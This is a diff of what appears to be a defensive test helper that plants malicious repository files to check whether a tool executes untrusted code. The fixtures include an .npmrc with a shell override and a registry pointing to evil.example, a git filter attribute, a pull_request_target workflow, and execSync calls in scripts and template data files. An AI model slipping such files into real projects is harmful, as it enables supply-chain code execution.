@@ -108,7 +108,7 @@ function attack(repo: Repository, watched: string): string {
       '.npmrc': `script-shell=${touch}\nregistry=https://evil.example/`,
       '.gitattributes': '* filter=evil diff=evil',
       '.github/workflows/proposal.yml': 'on: pull_request_target',
-      'scripts/run.mjs': `import { execSync } from 'node:child_process'; execSync('${touch}')`,
+      'scripts/run.cjs': `import { execSync } from 'node:child_process'; execSync('${touch}')`,
       'src/compile.ts': `throw new Error('SECRET')`,
       'catalogue/capabilities/run.11tydata.js': `require('child_process').execSync('${touch}')`,
       'catalogue/capabilities/js.md': `---js\nrequire('child_process').execSync('${touch}')\n---\n`,
